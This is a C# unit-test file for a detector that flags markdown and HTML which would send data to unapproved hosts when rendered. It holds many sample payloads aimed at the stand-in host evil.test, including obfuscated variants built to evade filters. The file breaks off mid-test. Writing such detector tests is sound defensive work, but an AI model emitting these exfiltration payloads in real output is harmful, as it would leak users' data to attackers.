using Airs.Runtime.Detectors;

namespace Airs.Runtime.Tests.Detectors;

public class ExfilTests
{
    private static readonly string[] Allowed = ["example.com", "*.cdn.example.net"];

    [Fact]
    public void Markdown_image_to_unknown_domain_is_found_with_its_span()
    {
        const string image = "![x](https://evil.test/p.png?d=secret)";
        var text = "Here: " + image + " done";
        var m = Assert.Single(Exfil.Find(text, Allowed));
        Assert.Equal("markdown_image", m.Label);
        Assert.Equal(image, text.Substring(m.Start, m.Length));
    }

    [Theory]
    [InlineData("![logo](https://example.com/logo.png)")]
    [InlineData("![logo](https://img.example.com/logo.png)")]
    [InlineData("![logo](https://a.cdn.example.net/logo.png)")]
    [InlineData("see [the docs](https://docs.example.com/page?lang=en)")]
    [InlineData("plain https://other.test/page?page=2 link")]
    // bench/Airs.Benchmarks' ExfilMarkup answer: inline HTML, a comparison in code, mailto: and an autolink, all harmless
    [InlineData("See [the guide](https://docs.example.com/setup) and ![diagram](https://cdn.example.com/flow.png).<br>\n"
        + "Press <kbd>Ctrl</kbd>+<kbd>S</kbd>; in code, `if (a < b) return;` keeps the order.\n"
        + "Questions: [write to us](mailto:help@example.com) or see <https://example.com/faq>.\n")]
    public void Allowed_or_harmless_links_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    [Fact]
    public void Subdomain_only_entry_does_not_allow_the_apex() =>
        Assert.NotEmpty(Exfil.Find("![x](https://cdn.example.net/a.png)", Allowed));

    [Fact]
    public void Lookalike_suffix_is_not_allowed() =>
        Assert.NotEmpty(Exfil.Find("![x](https://notexample.com/a.png)", Allowed));

    [Theory]
    [InlineData("[click](https://evil.test/x)", "markdown_link")]
    [InlineData("<img src=\"https://evil.test/a.png\">", "html_image")]
    [InlineData("visit https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy now", "url_query_data")]
    [InlineData("visit https://evil.test/c?u=jane.doe%40mail.example now", "url_query_data")]
    public void Links_images_and_query_data(string text, string label) => Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);

    /// <summary>
    /// What a browser fetches from another host though it is not written <c>https://host</c>: protocol-relative, other
    /// slashes or none after the scheme, a backslash ending the host, character references, an image's srcset. Each
    /// rendered an image from evil.test unreported before.
    /// </summary>
    [Theory]
    [InlineData("![x](//evil.test/p.png?d=secret)", "markdown_image")]
    [InlineData(@"![x](\\evil.test/p.png)", "markdown_image")]
    [InlineData(@"![x](https:/\evil.test/p.png)", "markdown_image")]
    [InlineData("![x](http:evil.test/p.png)", "markdown_image")]
    [InlineData("![x](HTTPS:///evil.test/p.png)", "markdown_image")]
    [InlineData("![x](&#104;ttps://evil.test/p.png)", "markdown_image")]
    [InlineData("![x](<//evil.test/p.png>)", "markdown_image")]
    [InlineData(@"![x](https://evil.test\x.example.com/p.png)", "markdown_image")]
    [InlineData("[click](//evil.test/x)", "markdown_link")]
    [InlineData("[ref]: //evil.test/x", "markdown_link")]
    [InlineData("<img src=\"//evil.test/a.png\">", "html_image")]
    [InlineData("<img src='&#x2F;&#x2F;evil.test/a.png'>", "html_image")]
    [InlineData("<img src=\"https://evil.test\\x.example.com/a.png\">", "html_image")]
    [InlineData("<img srcset=\"/local.png 1x, https://evil.test/b.png 2x\">", "html_image")]
    [InlineData("<picture><source srcset='//evil.test/b.webp'></picture>", "html_image")]
    public void Destinations_a_browser_reads_as_another_host_are_found(string text, string label) =>
        Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);

    [Theory]
    [InlineData("![x](/images/a.png)")]
    [InlineData("![x](images/a.png) and [next](../b.md)")]
    [InlineData("[top](#top) [mail](mailto:someone@evil.test)")]
    [InlineData("![x](data:image/png;base64,iVBORw0KGgo=)")]
    [InlineData("![x](//img.example.com/a.png)")]
    [InlineData(@"![x](https://example.com\@evil.test/a.png)")]
    [InlineData("<img srcset=\"a.png 1x, b.png 2x\"> <img src=\"/a.png\">")]
    [InlineData("Footnote[1]: see the appendix")]
    public void Relative_and_allowed_destinations_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// Other HTML a browser fetches from without a click: media and posters, SVG images, frames, embedded objects, image
    /// inputs, scripts, linked resources, a base address, a refresh, CSS <c>url(…)</c> and <c>@import</c> in a style
    /// attribute or block, and a background attribute; attributes read as the HTML tokenizer reads them (case, white
    /// space around <c>=</c>, quotes, a <c>&gt;</c> in a quoted value, character references, a tag read as another's
    /// attribute), CSS as the CSS tokenizer does (escapes, comments). Each fetched from evil.test unreported before.
    /// </summary>
    [Theory]
    [InlineData("<video poster=\"https://evil.test/p.png\"></video>")]
    [InlineData("<video src=//evil.test/v.mp4 controls></video>")]
    [InlineData("<audio src='https://evil.test/a.mp3'></audio>")]
    [InlineData("<video><source src=\"https://evil.test/v.webm\" type=\"video/webm\"></video>")]
    [InlineData("<svg><image href=\"https://evil.test/p.png\"/></svg>")]
    [InlineData("<svg><image xlink:href=\"//evil.test/p.png\" /></svg>")]
    [InlineData("<iframe src=\"https://evil.test/frame\"></iframe>")]
    [InlineData("<embed src=\"https://evil.test/e.swf\">")]
    [InlineData("<object data=\"https://evil.test/o.pdf\"></object>")]
    [InlineData("<input type=\"image\" src=\"https://evil.test/b.png\">")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.test/s.css\">")]
    [InlineData("<link rel=prefetch href=//evil.test/x>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.test/x\">")]
    [InlineData("<meta http-equiv=refresh content=\"0; URL='//evil.test/x'\">")]
    [InlineData("<div style=\"background-image: url('https://evil.test/p.png')\">hi</div>")]
    [InlineData("<span style=background:url(//evil.test/p.png)>x</span>")]
    [InlineData("<style>body { background: url(\"https://evil.test/p.png\") }</style>")]
    [InlineData("<style>@import 'https://evil.test/s.css';</style>")]
    [InlineData("<table background=\"https://evil.test/bg.png\"><tr><td>x</td></tr></table>")]
    [InlineData("<body background=//evil.test/bg.png>")]
    [InlineData("<base href=\"https://evil.test/\"> ![x](/a.png)")]
    [InlineData("<script src=\"//evil.test/s.js\"></script>")]
    [InlineData("<IFRAME SRC = \"https://evil.test/x\"></IFRAME>")]
    [InlineData("<iframe src=&#x2F;&#x2F;evil.test/x></iframe>")]
    [InlineData("<iframe title=\"a > b\" src=\"//evil.test/x\"></iframe>")]
    [InlineData("<video\nposter\n=\n'//evil.test/p.png'>")]
    [InlineData("<div style=\"background:url(&quot;//evil.test/p.png&quot;)\">x</div>")]
    [InlineData("<style>p { background: url(\"\\2f\\2f evil.test/p.png\") }</style>")]
    [InlineData("<div style=\"background:u\\72l(//evil.test/a.png)\">x</div>")]
    [InlineData("<div style=\"background-image:image-set('//evil.test/a.png' 1x)\">x</div>")]
    [InlineData("<style>/* don't */ body{background:url(//evil.test/a.png)} /* it's */</style>")]
    [InlineData("<link rel=preload as=image imagesrcset=\"a.png 1x, //evil.test/b.png 2x\">")]
    [InlineData("<meta content=\"0;url=//evil.test/x\" http-equiv=\"refresh\">")]
    [InlineData("<meta http-equiv=refresh content='1 //evil.test/x'>")]
    [InlineData("<image src=//evil.test/a.png>")]
    [InlineData("<iframe title=\"<video>\" src=//evil.test/x></iframe>")]
    [InlineData("<video <iframe poster=//evil.test/p.png>")]
    public void Other_html_that_fetches_from_another_host_is_found(string text) =>
        Assert.Equal("html_fetch", Assert.Single(Exfil.Find(text, Allowed)).Label);

    [Theory]
    [InlineData("<iframe src=\"https://example.com/embed\"></iframe> <video poster=\"https://img.example.com/p.png\">")]
    [InlineData("<video poster=\"/poster.png\" src=\"media/v.mp4\"></video> <object data=\"doc.pdf\"></object>")]
    [InlineData("<link rel=stylesheet href=\"styles/site.css\"> <base href=\"/docs/\">")]
    [InlineData("<div style=\"background:url(/bg.png)\">x</div> <style>.a{background:url(https://a.cdn.example.net/a.png)}</style>")]
    [InlineData("Use an <iframe> to embed the page, or an <object> element; <video> and <audio> need a source.")]
    [InlineData("Set the iframe's src to //evil.test/page in your HTML.")]
    [InlineData("In CSS write `background: url(https://evil.test/a.png)` for a background.")]
    [InlineData("<p title=\"url(//evil.test/a.png)\">x</p> <input type=\"text\" value=\"//evil.test/x\">")]
    [InlineData("<meta name=\"viewport\" content=\"width=device-width\"> <meta http-equiv=\"refresh\" content=\"30\">")]
    [InlineData("<td background=\"img/bg.png\">x</td> <iframe src=\"data:text/plain,hello\"></iframe>")]
    public void Other_html_to_an_allowed_or_relative_destination_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// An image whose attribute list holds a quoted <c>&gt;</c> or runs past 500 characters before its src: the
    /// <c>&lt;img</c> patterns stop at the first <c>&gt;</c> and read 500 characters at most, a browser renders both.
    /// </summary>
    [Theory]
    [InlineData("<img alt=\"a > b\" src=\"//evil.test/p.png\">")]
    [InlineData("<img alt='x>' src=https://evil.test/p.png>")]
    [InlineData("<img alt=\"a>b\" srcset=\"/a.png 1x, //evil.test/p.png 2x\">")]
    [InlineData("<img alt=\"" + Long + "\" src=\"https://evil.test/p.png\">")]
    public void An_image_whose_attributes_hide_its_source_from_the_patterns_is_found(string text) =>
        Assert.Equal("html_image", Assert.Single(Exfil.Find(text, Allowed)).Label);

    /// <summary>
    /// A frame's page written in the frame: <c>srcdoc</c> is HTML with its markup as character references, which the
    /// frame renders, images and all. Raw markup in it is read where it stands; encoded, it was not read at all.
    /// </summary>
    [Theory]
    [InlineData("<iframe srcdoc=\"&lt;img src=&quot;//evil.test/p.png&quot;&gt;\"></iframe>")]
    [InlineData("<iframe srcdoc='&#60;video poster=https://evil.test/p.png&#62;'></iframe>")]
    [InlineData("<iframe srcdoc=\"&lt;iframe srcdoc=&amp;quot;&amp;lt;img src=//evil.test/p.png&amp;gt;&amp;quot;&gt;\"></iframe>")]
    public void A_frame_whose_written_page_fetches_from_another_host_is_found(string text) =>
        Assert.Equal("html_fetch", Assert.Single(Exfil.Find(text, Allowed)).Label);

    [Fact]
    public void A_frame_whose_written_page_stays_on_allowed_hosts_is_not_found() =>
        Assert.Empty(Exfil.Find("<iframe srcdoc=\"&lt;p&gt;Hi&lt;/p&gt;&lt;img src=&quot;https://example.com/a.png&quot;&gt;\"></iframe>", Allowed));

    /// <summary>
    /// A numeric character reference without its semicolon (<c>&amp;#47&amp;#47evil.test</c>): HTML decodes it in an
    /// attribute value all the same (a parse error, not a stop), but the decoder the passes used needs the semicolon,
    /// so the destination read as relative.
    /// </summary>
    [Theory]
    [InlineData("<img src=\"&#47&#47evil.test/p.png\">", "html_image", 0.95)]
    [InlineData("<iframe src=\"https&#58//evil.test/x\"></iframe>", "html_fetch", 0.95)]
    [InlineData("<a href=\"&#x2F&#x2fwww.evil.test/x\">here</a>", "markdown_link", 0.7)]
    [InlineData("<link rel=stylesheet href=&#0047&#047evil.test/s.css>", "html_fetch", 0.95)]
    public void Destinations_written_with_numeric_references_without_a_semicolon_are_found(string text, string label, double score) =>
        Assert.Equal((label, score), SingleFinding(text));

    /// <summary>
    /// Named character references of HTML5 (<c>&amp;sol;</c>, <c>&amp;colon;</c>, <c>&amp;bsol;</c>): markdown and HTML
    /// decode them as they decode <c>&amp;#47;</c>, but the decoder the passes used knows only HTML 4's names, so the
    /// destination read as relative.
    /// </summary>
    [Theory]
    [InlineData("![x](&sol;&sol;evil.test/p.png)", "markdown_image")]
    [InlineData("<img src=\"&sol;&sol;evil.test/p.png\">", "html_image")]
    [InlineData("<iframe src=\"https&colon;//evil.test/x\"></iframe>", "html_fetch")]
    [InlineData("<video poster=\"&bsol;&bsol;evil.test/p.png\"></video>", "html_fetch")]
    [InlineData("[click](https&colon;&sol;&sol;evil.test/x)", "markdown_link")]
    public void Destinations_written_with_html5_named_references_are_found(string text, string label) =>
        Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);

    /// <summary>
    /// A frame or object whose page is a <c>data:</c> URL, percent- or base64-encoded: the page renders, and its images
    /// fetch. Raw markup in it is read where it stands; encoded, it was not read.
    /// </summary>
    [Theory]
    [InlineData("<iframe src=\"data:text/html,%3Cimg%20src%3D%2F%2Fevil.test%2Fp.png%3E\"></iframe>")]
    [InlineData("<object data=\"data:text/html;base64,PGltZyBzcmM9Ly9ldmlsLnRlc3QvcC5wbmc+\"></object>")]
    [InlineData("<embed src='data:image/svg+xml;charset=utf-8,%3Csvg%3E%3Cimage%20href%3D%22https%3A%2F%2Fevil.test%2Fp.png%22%2F%3E%3C%2Fsvg%3E'>")]
    public void A_frame_whose_data_page_fetches_from_another_host_is_found(string text) =>
        Assert.Equal("html_fetch", Assert.Single(Exfil.Find(text, Allowed)).Label);

    /// <summary>
    /// SVG that fetches from another host without a click, in browsers that render inline SVG: <c>&lt;use href&gt;</c>
    /// (an external sprite, <c>href</c> or <c>xlink:href</c>), <c>&lt;script href&gt;</c>, and the image and filter
    /// image already read. <c>&lt;use&gt;</c> and SVG's script were not read.
    /// </summary>
    [Theory]
    [InlineData("<svg><use href=\"https://evil.test/s.svg#x\"/></svg>")]
    [InlineData("<svg><use xlink:href='//evil.test/s.svg?d=secret#x'></use></svg>")]
    [InlineData("<svg><script href=\"//evil.test/s.js\"></script></svg>")]
    [InlineData("<svg><script xlink:href=https://evil.test/s.js /></svg>")]
    [InlineData("<svg><image href=\"https://evil.test/p.png\"/></svg>")]
    [InlineData("<svg><filter id=f><feImage href=\"https://evil.test/p.png\"/></filter></svg>")]
    [InlineData("<svg><filter id=f><feImage xlink:href=//evil.test/p.png /></filter></svg>")]
    [InlineData("<svg><image><set attributeName=\"href\" to=\"https://evil.test/p.png\"/></image></svg>")]
    [InlineData("<svg><use><animate attributeName=href values=\"#a;//evil.test/s.svg#x\" dur=1s /></use></svg>")]
    [InlineData("<svg><image><set attributeName=xlink:href to='&#x2F;&#x2F;evil.test/p.png' /></image></svg>")]
    public void Svg_that_fetches_from_another_host_is_found(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    /// <summary>
    /// SVG as XML writes it (an <c>image/svg+xml</c> file, XHTML): elements with a namespace prefix (<c>&lt;svg:image&gt;</c>,
    /// <c>&lt;s:feImage&gt;</c>), read by their local name, and an <c>href</c> with any prefix bound to XLink's namespace
    /// (<c>x:href</c>), with or without its declaration in the text; a prefixed style block is CSS to its end tag. The
    /// element names were looked up whole and found no element, only <c>xlink:</c> was read as XLink, and the probe
    /// (which opened on <c>&lt;image</c>, not <c>:image</c>) skipped a text holding nothing else.
    /// </summary>
    [Theory]
    [InlineData("<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><svg:image xlink:href=\"https://evil.test/p.png\"/></svg:svg>")]
    [InlineData("<svg:image xlink:href='//evil.test/p.png?d=secret'/>")]
    [InlineData("<svg:use href=\"https://evil.test/s.svg#x\"/>")]
    [InlineData("<s:filter id=f><s:feImage href=//evil.test/p.png /></s:filter>")]
    [InlineData("<image x:href=\"https://evil.test/p.png\" xmlns:x=\"http://www.w3.org/1999/xlink\"/>")]
    [InlineData("<svg:pattern id=p l:href=\"//evil.test/p.svg#p\"/>")]
    [InlineData("<a:b:script XL:HREF=//evil.test/s.js />")]
    [InlineData("<svg:style>@import url(//evil.test/s.css);</svg:style>")]
    [InlineData("<svg:style><![CDATA[ .a { fill: url(https://evil.test/p.svg#g) } ]]></svg:style>")]
    public void Prefixed_svg_that_fetches_from_another_host_is_found(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    /// <summary>
    /// Prefixed elements that fetch nothing (<c>&lt;svg:title&gt;</c>, <c>&lt;svg:rect&gt;</c>, even with an <c>x:href</c>,
    /// which only elements that take one read), a prefixed <c>&lt;use&gt;</c> of the same document, an autolink (whose
    /// scheme reads as a prefix of nothing), and a prefixed style block that ends at its end tag: the link after it is a
    /// link, not CSS.
    /// </summary>
    [Theory]
    [InlineData("<svg:svg xmlns:svg=\"http://www.w3.org/2000/svg\"><svg:title>//evil.test/x</svg:title><svg:desc>see https://evil.test/x</svg:desc></svg:svg>")]
    [InlineData("<svg:rect x:href=\"https://evil.test/x\" width=9 /><svg:use xlink:href=\"#icon\"/><svg:image href=\"/local.png\"/>")]
    [InlineData("See <https://evil.test/x> and <mailto:someone@evil.test>.")]
    public void Prefixed_svg_that_fetches_nothing_from_another_host_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    [Fact]
    public void A_prefixed_style_block_ends_at_its_end_tag() =>
        Assert.Equal(("markdown_link", 0.7), SingleFinding("<svg:style>.a { fill: red }</svg:style><a href=\"https://evil.test/x\">here</a>"));

    /// <summary>
    /// A style block's text is CSS up to a tag named <c>style</c>: a tag whose name only begins so (<c>&lt;/styles&gt;</c>,
    /// <c>&lt;stylesheet&gt;</c>) is text to a browser, and ended the block's reading, so the CSS after it was not read.
    /// </summary>
    [Theory]
    [InlineData("<style>.a { color: red }</styles> body { background: url(//evil.test/p.png) }</style>")]
    [InlineData("<style>.a { color: red } <stylesheet> body { background: url(//evil.test/p.png) }</style>")]
    public void A_style_block_runs_past_a_tag_whose_name_only_begins_with_style(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    [Theory]
    [InlineData("<svg><use href=\"#icon\"/><use xlink:href=\"/sprites.svg#a\"/><use href=\"https://example.com/s.svg#b\"/></svg>")]
    [InlineData("<svg><script href=\"/s.js\"></script></svg>")]
    [InlineData("<svg><rect><animate attributeName=x values=\"0;10;0\" dur=2s /><set attributeName=fill to=red /></rect></svg>")]
    public void Svg_to_the_same_document_or_an_allowed_host_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// An HTML anchor or image-map area is followed on a click, as a markdown link is, and reported as one (label and
    /// score): 0.7, 0.9 when its query carries data. A form (and a button's or image input's formaction) posts its
    /// fields, hidden ones too, on a click: a link that carries data, 0.9. A ping is sent on a click. None was read.
    /// </summary>
    [Theory]
    [InlineData("<a href=\"https://evil.test/?q=secret\">here</a>", 0.7)]
    [InlineData("<A HREF=//evil.test/x>here</A>", 0.7)]
    [InlineData("<a href=\"https&colon;//evil.test/x\">here</a>", 0.7)]
    [InlineData("<a href=\"https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy\">here</a>", 0.9)]
    [InlineData("<map><area shape=rect coords=\"0,0,9,9\" href=\"https://evil.test/x\"></map>", 0.7)]
    [InlineData("<svg><a xlink:href=\"//evil.test/x\"><text>here</text></a></svg>", 0.7)]
    [InlineData("<svg:a x:href=\"//evil.test/x\"><svg:text>here</svg:text></svg:a>", 0.7)]
    [InlineData("<a href=\"/local\" ping=\"/count https://evil.test/p\">here</a>", 0.7)]
    [InlineData("<form action=\"https://evil.test/collect\"><input type=hidden name=d value=secret><button>Go</button></form>", 0.9)]
    [InlineData("<form><input name=d value=secret><button formaction=//evil.test/c>Go</button></form>", 0.9)]
    [InlineData("<form><input type=submit formaction=\"https://evil.test/c\"></form>", 0.9)]
    public void An_html_link_or_form_to_another_host_is_found_as_a_markdown_link_is(string text, double score)
    {
        var markdown = Assert.Single(Exfil.Find("[here](https://evil.test/?q=secret)", Allowed));
        var m = Assert.Single(Exfil.Find(text, Allowed));
        Assert.Equal((markdown.Label, score), (m.Label, m.Score));
    }

    [Theory]
    [InlineData("<a href=\"https://docs.example.com/page\">docs</a> <a href=\"/local\">x</a> <a href=\"#top\">top</a>")]
    [InlineData("<a href=\"mailto:someone@evil.test\">mail</a> <area href=\"map.html\">")]
    [InlineData("<form action=\"/search\"><input name=q><button formaction=\"https://example.com/go\">Go</button></form>")]
    [InlineData("Wrap it in an <a> element; a <form> posts to its action.")]
    public void An_html_link_or_form_to_an_allowed_or_relative_destination_is_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// Images the <c>&lt;img</c> patterns found, which the tag reader alone reads now: lazy-loaded sources
    /// (<c>data-src</c>, <c>data-srcset</c>), a slash before the attributes, a tag the text ends in, a picture's source.
    /// </summary>
    [Theory]
    [InlineData("<img data-src=\"//evil.test/p.png\">")]
    [InlineData("<img class=lazyload data-srcset=\"/a.png 1x, https://evil.test/b.png 2x\">")]
    [InlineData("<img/src=https://evil.test/p.png>")]
    [InlineData("Here it is: <IMG SRC=https://evil.test/p.png")]
    [InlineData("<picture><source media=\"(min-width: 1px)\" srcset=\"https://evil.test/b.webp 1x\"></picture>")]
    [InlineData("<img src=\"https://evil.test/p.png?d=abcdefghijklmnopqrstuvwxyz012345\">")]
    public void Images_are_read_by_the_tag_reader(string text) =>
        Assert.Equal(("html_image", 0.95), SingleFinding(text));

    /// <summary>
    /// What lazy-loading scripts set as an image's (or any element's) source or background: WordPress's
    /// <c>data-lazy-src</c>, jQuery lazyload's <c>data-original</c>, lazysizes' and vanilla-lazyload's <c>data-bg</c>,
    /// <c>data-bgset</c> and <c>data-poster</c>, and the old <c>lowsrc</c>. Only <c>data-src</c> and <c>data-srcset</c>
    /// were read, and only on elements that fetch: on a <c>&lt;div&gt;</c> not even those.
    /// </summary>
    [Theory]
    [InlineData("<img data-lazy-src=\"https://evil.test/p.png\">", "html_image")]
    [InlineData("<img class=lazy data-original=//evil.test/p.png>", "html_image")]
    [InlineData("<img lowsrc=\"https://evil.test/p.png\">", "html_image")]
    [InlineData("<img data-lazy-srcset=\"/a.png 1x, //evil.test/b.png 2x\">", "html_image")]
    [InlineData("<div class=lazyload data-src=\"//evil.test/p.png\"></div>", "html_fetch")]
    [InlineData("<div class=lazyload data-bg=\"https://evil.test/bg.png\">x</div>", "html_fetch")]
    [InlineData("<section data-bgset=\"/a.png 1x, https://evil.test/b.png 2x\">x</section>", "html_fetch")]
    [InlineData("<div data-bg-multi=\"url(/a.png), url(https://evil.test/b.png)\">x</div>", "html_fetch")]
    [InlineData("<video data-poster=\"//evil.test/p.png\" controls></video>", "html_fetch")]
    public void Lazy_loaded_sources_to_another_host_are_found(string text, string label) =>
        Assert.Equal((label, 0.95), SingleFinding(text));

    [Theory]
    [InlineData("<img data-lazy-src=\"/p.png\" data-original=\"https://img.example.com/p.png\"> <div data-bg=\"bg.png\">x</div>")]
    [InlineData("<div data-image-caption=\"A photo\" data-lazy=\"true\" data-src=\"#top\">x</div>")]
    public void Lazy_loaded_sources_that_stay_on_allowed_hosts_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// SVG presentation attributes that take a <c>url(…)</c> (<c>fill</c>, <c>stroke</c>, <c>filter</c>, <c>mask</c>,
    /// <c>clip-path</c>, <c>marker-*</c>, <c>cursor</c>): a renderer that loads another document's paint server, filter
    /// or marker fetches it. Only a style attribute or block was read as CSS.
    /// </summary>
    [Theory]
    [InlineData("<svg><rect width=9 height=9 fill=\"url(https://evil.test/p.svg#g)\"/></svg>")]
    [InlineData("<svg><g filter='url(//evil.test/f.svg?d=secret#f)'><circle r=4 /></g></svg>")]
    [InlineData("<svg><path d=\"M0 0L9 9\" marker-end=\"url(https://evil.test/m.svg#m)\"/></svg>")]
    [InlineData("<svg><circle r=4 mask=url(//evil.test/m.svg#m) /></svg>")]
    [InlineData("<svg><circle r=4 clip-path=\"url(&quot;https://evil.test/c.svg#c&quot;)\" /></svg>")]
    [InlineData("<svg><rect stroke=\"u\\72l(//evil.test/s.svg#s) red\" /></svg>")]
    public void Svg_presentation_attributes_that_fetch_from_another_host_are_found(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    [Theory]
    [InlineData("<svg><rect fill=\"url(#grad)\" stroke=\"red\" clip-path=\"url(#c)\" marker-start=\"url(#m)\"/></svg>")]
    [InlineData("<svg><g filter=\"url(/filters.svg#blur)\" mask=\"url(https://img.example.com/m.svg#m)\"></g></svg>")]
    [InlineData("<p>Set fill to url(https://evil.test/p.svg#g) in your SVG.</p>")]
    public void Svg_presentation_attributes_to_the_same_document_or_an_allowed_host_are_not_found(string text) =>
        Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// MathML's <c>href</c>, on any MathML element, is a link in browsers that support it (reported as a markdown link
    /// is); a portal's <c>src</c> loads a page without a click. Neither was read.
    /// </summary>
    [Theory]
    [InlineData("<math href=\"https://evil.test/x\"><mi>x</mi></math>", "markdown_link", 0.7)]
    [InlineData("<math><mrow><mi href=//evil.test/c?d=am9obkBleGFtcGxlLmNvbTpodW50ZXIy>x</mi></mrow></math>", "markdown_link", 0.9)]
    [InlineData("<math display=block><mtext xlink:href='https://evil.test/x'>see</mtext></math>", "markdown_link", 0.7)]
    [InlineData("<portal src=\"https://evil.test/p\"></portal>", "html_fetch", 0.95)]
    public void Mathml_links_and_portals_to_another_host_are_found(string text, string label, double score) =>
        Assert.Equal((label, score), SingleFinding(text));

    [Theory]
    [InlineData("<math><mi href=\"#eq1\">x</mi><mo href=\"/docs/plus\">+</mo><mn href=\"https://docs.example.com/n\">1</mn></math>")]
    [InlineData("<portal src=\"/preview\"></portal>")]
    public void Mathml_links_and_portals_to_an_allowed_or_relative_destination_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// SVG elements that take another document's element or file by its <c>href</c> (or <c>xlink:href</c>): a paint
    /// server's or a filter's template, a text path, an animation's motion path, SVG 1.1's cursor image, text
    /// reference, colour profile, font and glyphs. A renderer that loads external references fetches them; none was read.
    /// </summary>
    [Theory]
    [InlineData("<svg><defs><pattern id=p href=\"https://evil.test/p.svg#p\"/></defs><rect fill=\"url(#p)\"/></svg>")]
    [InlineData("<svg><linearGradient id=g xlink:href=\"//evil.test/g.svg?d=secret#g\"/></svg>")]
    [InlineData("<svg><radialGradient id=r href='https://evil.test/g.svg#r'></radialGradient></svg>")]
    [InlineData("<svg><filter id=f xlink:href=https://evil.test/f.svg#f /></svg>")]
    [InlineData("<svg><text><textPath href=\"https://evil.test/p.svg#path\">x</textPath></text></svg>")]
    [InlineData("<svg><animateMotion dur=1s><mpath xlink:href=\"//evil.test/p.svg#path\"/></animateMotion></svg>")]
    [InlineData("<svg><cursor id=c xlink:href=\"https://evil.test/c.png\" x=0 y=0 /></svg>")]
    [InlineData("<svg><text><tref xlink:href=\"https://evil.test/t.svg#t\"/></text></svg>")]
    [InlineData("<svg><color-profile name=p xlink:href=\"https://evil.test/p.icc\"/></svg>")]
    [InlineData("<svg><font-face><font-face-src><font-face-uri xlink:href=\"https://evil.test/f.svg#f\"/></font-face-src></font-face></svg>")]
    [InlineData("<svg><text><altGlyph xlink:href=\"https://evil.test/g.svg#a\">a</altGlyph></text></svg>")]
    [InlineData("<svg><glyphRef xlink:href=\"https://evil.test/g.svg#a\"/></svg>")]
    [InlineData("<svg><linearGradient id=g href=\"&#x2F;&#x2F;evil.test/g.svg#g\"/></svg>")]
    public void Svg_elements_that_reference_another_document_on_another_host_are_found(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    [Theory]
    [InlineData("<svg><linearGradient id=b href=\"#a\"/><pattern xlink:href=\"#p\"/><radialGradient href=\"#a\"/><filter id=f href=\"#g\"/></svg>")]
    [InlineData("<svg><text><textPath href=\"#path\">x</textPath></text><animateMotion><mpath href=\"#path\"/></animateMotion></svg>")]
    [InlineData("<svg><pattern href=\"/patterns.svg#p\"/><cursor xlink:href=\"https://img.example.com/c.png\"/><tref xlink:href=\"#t\"/></svg>")]
    public void Svg_elements_that_reference_the_same_document_or_an_allowed_host_are_not_found(string text) =>
        Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// Elements that fetch a file in SVG Tiny 1.2 (<c>&lt;animation&gt;</c>, <c>&lt;prefetch&gt;</c>, and
    /// <c>&lt;video&gt;</c> and <c>&lt;audio&gt;</c> by <c>xlink:href</c>), SVG 2's drafts (<c>&lt;hatch&gt;</c>,
    /// <c>&lt;meshgradient&gt;</c> templates) and MathML 3 (<c>&lt;mglyph src&gt;</c>, an image): none was read.
    /// </summary>
    [Theory]
    [InlineData("<svg><animation xlink:href=\"https://evil.test/a.svg\" width=9 height=9 /></svg>")]
    [InlineData("<svg><prefetch xlink:href=\"https://evil.test/big.svg?d=secret\"/></svg>")]
    [InlineData("<svg><video xlink:href=\"https://evil.test/v.mp4\" width=9 height=9 /></svg>")]
    [InlineData("<svg><audio xlink:href=//evil.test/a.ogg /></svg>")]
    [InlineData("<svg><hatch id=h href=\"https://evil.test/h.svg#h\"/></svg>")]
    [InlineData("<svg><meshgradient id=m xlink:href=\"https://evil.test/m.svg#m\"/></svg>")]
    [InlineData("<math><mi><mglyph src=\"https://evil.test/g.png\" alt=g /></mi></math>")]
    public void Svg_tiny_svg2_and_mathml_elements_that_fetch_from_another_host_are_found(string text) =>
        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));

    [Theory]
    [InlineData("<svg><animation xlink:href=\"#a\"/><video xlink:href=\"/v.mp4\"/><hatch href=\"#h\"/></svg><math><mglyph src=\"/g.png\"/></math>")]
    public void Svg_tiny_svg2_and_mathml_elements_to_the_same_document_or_a_relative_file_are_not_found(string text) =>
        Assert.Empty(Exfil.Find(text, Allowed));

    /// <summary>
    /// Bootstrap's tooltips and popovers keep their text in <c>data-original-title</c> and <c>data-original-content</c>
    /// (Bootstrap 5: <c>data-bs-original-title</c>, <c>data-bs-original-content</c>, read as sources until 2026-11-29):
    /// text shown on hover, which nothing fetches, read as a lazy loader's source because the name holds
    /// <c>original</c>. Every other <c>data-</c> name with <c>original</c> is still read, and so are Bootstrap 5's other lazy-looking names.
    /// </summary>
    [Theory]
    [InlineData("<a href=\"#\" data-toggle=\"tooltip\" data-original-title=\"https://evil.test/help\">help</a>")]
    [InlineData("<button data-toggle=popover DATA-ORIGINAL-CONTENT='See, //evil.test/docs'>?</button>")]
